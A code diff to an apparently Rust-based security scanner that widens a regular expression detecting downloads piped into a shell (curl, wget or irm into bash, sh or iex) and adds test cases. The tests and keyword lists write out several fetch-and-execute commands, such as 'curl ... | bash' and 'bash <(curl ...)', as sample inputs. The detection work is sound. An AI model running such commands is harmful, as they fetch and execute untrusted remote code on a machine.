@@ -17,10 +17,11 @@ use std::sync::LazyLock;
 const DOWNLOADERS: &str = r"curl|wget|fetch|iwr|irm|invoke-webrequest|invoke-restmethod";
 const RUNNERS: &str = r"sh|bash|zsh|dash|ksh|fish|python[0-9.]*|perl|ruby|node|php|pwsh|powershell|iex|invoke-expression|source";
 
-/// `curl … | sh`, `wget -O- … | sudo bash`, `irm … | iex`.
+/// `curl … | sh`, `wget -O- … | sudo bash`, `irm … | iex`, `curl … | VERSION=2 bash` (the
+/// runner may be given its environment first).
 static PIPED: LazyLock<Pattern> = LazyLock::new(|| {
     Pattern::new(&format!(
-        r"(?i)(?-u:\b)({DOWNLOADERS})(?-u:\b)(?:[^|\n;&]|\\\n)*?\|[[:space:]]*(?:sudo[[:space:]]+(?:-\S+[[:space:]]+)*)?(?:env[[:space:]]+(?:[[:word:]]+=\S*[[:space:]]+)*)?(?:/usr/local/bin/|/usr/bin/|/bin/)?({RUNNERS})(?-u:\b)"
+        r"(?i)(?-u:\b)({DOWNLOADERS})(?-u:\b)(?:[^|\n;&]|\\\n)*?\|[[:space:]]*(?:sudo[[:space:]]+(?:-\S+[[:space:]]+)*)?(?:env[[:space:]]+)?(?:[[:word:]]+=\S*[[:space:]]+)*(?:/usr/local/bin/|/usr/bin/|/bin/)?({RUNNERS})(?-u:\b)"
     ))
     .expect("a valid pipe pattern")
 });
@@ -581,6 +582,12 @@ mod tests {
     fn every_form_is_found_and_graded() {
         assert_eq!(codes("curl -fsSL http://1.2.3.4/x | bash\n"), ["SK901"]);
         assert_eq!(codes("wget -qO- example.com/i | sudo -E bash\n"), ["SK901"]);
+        // The runner given its environment first, as a Makefile recipe does.
+        assert_eq!(
+            codes("curl -fsSL $(M)/i.sh | V=$(V) BIN_DIR=$(B) bash\n"),
+            ["SK920"]
+        );
+        assert!(codes("curl -s https://api.x.dev/v1 | LC_ALL=C sort\n").is_empty());
         assert_eq!(codes("curl -fsSL https://get.docker.com | sh\n"), ["SK902"]);
         assert_eq!(codes("bash <(curl -s https://x.dev/i.sh)\n"), ["SK920"]);
         assert_eq!(codes("eval \"$(curl -s http://x.dev/i)\"\n"), ["SK901"]);
